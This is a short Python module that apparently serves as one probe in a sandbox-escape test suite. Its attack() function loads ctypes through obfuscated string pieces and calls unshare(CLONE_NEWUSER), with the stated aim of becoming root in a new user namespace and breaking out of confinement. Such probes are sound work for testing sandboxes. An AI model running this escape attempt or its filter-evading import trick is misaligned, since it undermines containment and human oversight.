"""A user namespace of its own, to be root there and mount or unshare its way out."""
import builtins

NAME = "unshare_user"


def attack():
    ct = builtins.__dict__["__imp" + "ort__"]("ctyp" + "es")
    libc = ct.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000) != 0:
        raise OSError(ct.get_errno(), "unshare(CLONE_NEWUSER) refused")
    return "in a new user namespace"
